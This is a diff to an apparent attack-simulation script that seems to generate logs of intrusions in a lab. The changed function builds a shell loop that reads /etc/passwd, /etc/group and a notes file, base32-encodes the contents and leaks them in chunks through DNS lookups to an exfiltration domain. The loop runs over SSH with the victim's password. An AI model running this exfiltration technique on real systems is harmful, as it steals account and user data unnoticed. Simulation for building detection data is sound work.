@@ -83,9 +83,13 @@ async function privesc(c: AttackCtx): Promise<void> {
 
 async function dnsExfil(c: AttackCtx): Promise<void> {
   const v = c.plan.victim, srv = c.target(c.plan.srvIp), d = c.plan.exfilDomain;
-  const n = 30 + c.plan.rng.int(0, 20);
+  // 70-100 chunks of 40 characters, about 3 lines each (the dig under snoopy, dnsmasq's query
+  // and reply), so a run holds >= 200 distinct exfiltration lines: /etc/passwd and the notes
+  // alone made 35 chunks of 52 (157 lines in s1).
+  const n = 70 + c.plan.rng.int(0, 30);
+  const files = "/etc/passwd /etc/group ~/notes.txt";
   const loop =
-    `i=0; for x in $(cat /etc/passwd ~/notes.txt | base32 -w0 | tr -d = | tr A-Z a-z | fold -w 52 | head -n ${n}); ` +
+    `i=0; for x in $(cat ${files} 2>/dev/null | base32 -w0 | tr -d = | tr A-Z a-z | fold -w 40 | head -n ${n}); ` +
     `do i=$((i+1)); dig +short +tries=1 +time=1 @127.0.0.1 $x.$i.${d} > /dev/null; done`;
   await act(c.atk, sshCmd(c.plan.atkIp, v.name, v.password, srv, loop), Math.min(c.left(), 90));
 }
